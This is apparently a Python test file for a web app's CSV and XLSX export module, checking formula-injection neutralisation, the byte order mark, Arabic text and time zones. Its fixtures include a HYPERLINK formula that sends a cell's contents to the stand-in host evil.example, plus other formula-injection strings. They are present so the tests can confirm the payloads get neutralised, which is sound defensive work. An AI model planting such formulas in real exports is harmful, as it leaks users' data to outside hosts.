"""The rules of spreadsheets leaving the site (`jazari.spreadsheets`), on the files themselves."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from jazari.spreadsheets import csv_lines, neutralise, spreadsheet_file, write_csv, write_xlsx

HEADERS = ["Nom", "Téléphone", "Inscrit le"]
ARABIC = "أمينة بنعلي"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
ROWS = [
    [FORMULA, "+212 6 12 34 56 78", datetime(2030, 4, 15, 8, 0, tzinfo=UTC)],
    [ARABIC, "-1+2", date(2030, 4, 15)],
    ["@SUM(A1:A2)", "\t=1+1", None],
    ["\r=1", -5, Decimal("-2.5")],
    ["Élodie Zaïm", 0, 3.5],
]


def read_csv(content: bytes):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def written(writer, rows=ROWS):
    output = io.BytesIO()
    writer(output, HEADERS, iter(rows))
    return output.getvalue()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+212 6", "'+212 6"),
        ("-3", "'-3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Amina", "Amina"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    """Only text starting like a formula gets the apostrophe; numbers and the rest stay."""
    assert neutralise(value) == expected


def test_csv_starts_with_the_byte_order_mark():
    """UTF-8 with a BOM, so that Excel reads Arabic and accents; the BOM comes once."""
    content = written(write_csv)
    assert content.startswith(b"\xef\xbb\xbfNom,")
    assert content.count(b"\xef\xbb\xbf") == 1


def test_csv_neutralises_formulas_and_keeps_text_intact():
    """Formula-like cells are prefixed with `'`; Arabic, accents and numbers are as given."""
    header, *rows = read_csv(written(write_csv))
    assert header == HEADERS
    assert rows[0] == ["'" + FORMULA, "'+212 6 12 34 56 78", "2030-04-15 09:00"]
    assert rows[1] == [ARABIC, "'-1+2", "2030-04-15"]
    assert rows[2] == ["'@SUM(A1:A2)", "'\t=1+1", ""]
    assert rows[3] == ["'\r=1", "-5", "-2.5"]
    assert rows[4] == ["Élodie Zaïm", "0", "3.5"]


def test_csv_lines_stream_one_row_at_a_time():
    """Rows are read from the iterator as lines are asked for, not all at once."""
    taken = []

    def rows():
        for row in ROWS:
            taken.append(row)
            yield row

    lines = csv_lines(HEADERS, rows())
    assert next(lines).startswith("\ufeffNom")
    assert taken == []
    next(lines)
    assert len(taken) == 1


def test_xlsx_keeps_text_as_text_never_a_formula():
    """Every text is a string cell (no formula), formula-like ones with Excel's quote prefix,
    the text itself intact; numbers stay numbers; datetimes in Casablanca's wall clock."""
    sheet = openpyxl.load_workbook(io.BytesIO(written(write_xlsx))).active
    header, first, second, third, fourth, fifth = sheet.iter_rows()
    assert [c.value for c in header] == HEADERS
    name, phone, when = first
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+212 6 12 34 56 78", "s", True)
    assert when.value == datetime(2030, 4, 15, 9, 0)  # 08:00 UTC is 09:00 in Casablanca
    assert when.number_format == "yyyy-mm-dd hh:mm"
    assert (second[0].value, second[0].data_type, second[0].quotePrefix) == (ARABIC, "s", False)
    assert second[2].value == datetime(2030, 4, 15)
    assert [c.value for c in third] == ["@SUM(A1:A2)", "\t=1+1", None]
    assert all(c.quotePrefix for c in third[:2])
    assert [c.value for c in fourth[1:]] == [-5, -2.5]
    assert fourth[1].data_type == "n"
    assert [c.value for c in fifth] == ["Élodie Zaïm", 0, 3.5]


def test_xlsx_drops_characters_xml_cannot_hold():
    """A control character in a name is dropped rather than failing the whole export."""
    content = written(write_xlsx, rows=[["Ami\x00na\x07", "", None]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "Amina"


def test_spreadsheet_file_is_rewound_and_refuses_unknown_formats():
    """The written file is ready to read from the start; an unknown format is an error."""
    with spreadsheet_file("csv", HEADERS, iter(ROWS)) as output:
        assert output.read(3) == b"\xef\xbb\xbf"
    with pytest.raises(ValueError):
        spreadsheet_file("ods", HEADERS, iter(ROWS))
